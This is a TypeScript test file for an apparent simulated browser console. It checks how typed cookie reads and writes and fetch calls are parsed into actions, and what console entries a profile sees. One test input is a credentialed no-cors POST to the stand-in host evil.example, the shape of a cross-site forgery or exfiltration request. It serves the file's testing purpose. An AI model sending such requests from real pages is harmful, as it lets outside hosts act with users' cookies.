import { describe, expect, it } from 'vitest';
import { instant } from '../time/instant.ts';
import type { WorldEvent } from '../world/events.ts';
import { consoleEntries, typedScript } from './page-console.ts';

const profile = 'browser';

describe('what is typed into the console of a page', () => {
	it.each([
		['document.cookie', { type: 'readScript', profile }],
		[' document.cookie; ', { type: 'readScript', profile }],
		['document.cookie = "a=1; Path=/"', { type: 'writeScript', profile, line: 'a=1; Path=/' }],
		["document.cookie='a=1'", { type: 'writeScript', profile, line: 'a=1' }],
		['fetch("/x/")', { type: 'fetch', profile, url: '/x/', hold: true }],
		[
			"await fetch('https://evil.example/', { method: 'POST', credentials: 'include', mode: 'no-cors', body: 'a' });",
			{
				type: 'fetch',
				profile,
				url: 'https://evil.example/',
				hold: true,
				method: 'POST',
				body: 'a',
				credentials: 'include',
				mode: 'no-cors'
			}
		]
	])('%s', (line, action) => {
		expect(typedScript(line, profile)).toEqual({ action });
	});

	it.each([
		'alert(1)',
		'fetch()',
		'fetch("/", { cache: "reload" })',
		'fetch("/", { method: POST })',
		'fetch("/", { credentials: "all" })',
		'fetch("/", { mode: "navigate" })'
	])('%s is told to be unknown', (line) => {
		expect(typedScript(line, profile)).toHaveProperty('misfit');
	});
});

it('the console shows what scripts did and what failed, of its own browser only', () => {
	const at = instant(0);
	const events: WorldEvent[] = [
		{ type: 'script.wrote', line: 'a=1', seq: 1, at, profile },
		{ type: 'script.read', url: 'https://shop.example/', value: 'a=1', seq: 2, at, profile },
		{ type: 'script.read', url: 'https://shop.example/', value: '', seq: 3, at, profile: 'second' },
		{
			type: 'navigation.started',
			method: 'GET',
			url: 'https://a.example/',
			cause: 'fetch',
			seq: 4,
			at,
			profile
		},
		{ type: 'fetch.answered', url: 'https://a.example/', status: 200, failure: null, seq: 5, at, profile },
		{ type: 'response.sent', status: 500, bytes: 1, seq: 6, at, profile }
	];
	expect(consoleEntries(events, profile).map(({ kind, text }) => [kind, text])).toEqual([
		['did', 'document.cookie = "a=1"'],
		['did', 'document.cookie'],
		['said', '"a=1"'],
		['did', 'fetch("https://a.example/"), GET'],
		['said', 'Response 200'],
		['failed', 'The server answered with status 500.']
	]);
});
